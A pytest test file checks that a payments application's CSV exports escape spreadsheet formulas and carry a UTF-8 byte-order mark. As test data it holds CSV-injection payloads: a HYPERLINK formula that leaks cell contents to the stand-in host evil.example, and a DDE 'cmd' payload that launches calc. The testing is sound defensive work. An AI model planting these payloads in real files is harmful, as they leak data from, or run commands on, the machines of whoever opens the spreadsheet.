"""Every CSV export goes through one writer: no cell can run as a formula, and Excel reads
accented names right (UTF-8 with a byte-order mark)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from dollr_core.basics import spreadsheet
from dollr_core.basics.access import Actor
from dollr_core.bulk import drafts, progress, recipient_file
from dollr_core.ledger import audit
from dollr_core.services import Services
from dollr_core.team import sign_in

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def _read(text: str) -> list[dict[str, str]]:
    assert text.startswith(spreadsheet.BYTE_ORDER_MARK), "Excel needs the byte-order mark for UTF-8"
    return list(csv.DictReader(io.StringIO(text.removeprefix(spreadsheet.BYTE_ORDER_MARK))))


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+231880001234", "'+231880001234"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),  # a negative amount stays a number
        ("-7", "-7"),
        ("-1e3", "'-1e3"),
        ("Niyonsaba Émilienne", "Niyonsaba Émilienne"),
        (None, ""),
        (25, "25"),
    ],
)
def test_a_cell_never_runs_as_a_formula(typed: object, shown: str) -> None:
    assert spreadsheet.safe_cell(typed) == shown


def test_a_sign_in_email_is_neutralised_in_the_audit_export(sqlite_services: Services) -> None:
    with pytest.raises(sign_in.SignInError):
        sign_in.sign_in(
            sqlite_services.engine, EVIL, "whatever it is", client="stranger", sleep=lambda _s: None
        )
    exported = _read(audit.export_csv(audit.table(audit.search(sqlite_services.engine, audit.AuditFilter()))))
    [attempt] = [r for r in exported if r["Action code"] == "sign_in"]
    assert attempt["Who"] == "'" + EVIL.lower()


def test_a_phone_is_neutralised_in_the_bulk_results(sqlite_services: Services, finance: Actor) -> None:
    rows = [
        recipient_file.RowInput("Niyonsaba Émilienne", EVIL, "10", "USD"),
        recipient_file.RowInput("@Musa", "+231", "5", "USD"),
    ]
    batch = drafts.create_batch(sqlite_services, finance, "Evil batch", rows)
    assert batch.id is not None
    exported = _read(progress.results_csv(sqlite_services, finance, batch.id))
    assert [r["phone"][:11] for r in exported] == ["'=HYPERLINK", "'+231"]
    assert [r["name"] for r in exported] == ["Niyonsaba Émilienne", "'@Musa"]


def test_the_template_is_written_by_the_same_writer() -> None:
    template = recipient_file.template_csv()
    assert template.startswith(spreadsheet.BYTE_ORDER_MARK)
    assert recipient_file.parse_rows(template)[0].name == "Musa Kollie"
    assert recipient_file.parse_rows(template.encode())[0].name == "Musa Kollie"


def test_no_other_module_writes_csv() -> None:
    """One writer for every export: a new export that bypasses it fails here."""
    writers = re.compile(r"csv\.(writer|DictWriter)\b|\.to_csv\(")
    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("dollr_core", "pages", "console")
        for path in (ROOT / folder).rglob("*.py")
        if writers.search(path.read_text()) and path != ROOT / "dollr_core" / "basics" / "spreadsheet.py"
    ]
    assert offenders == []
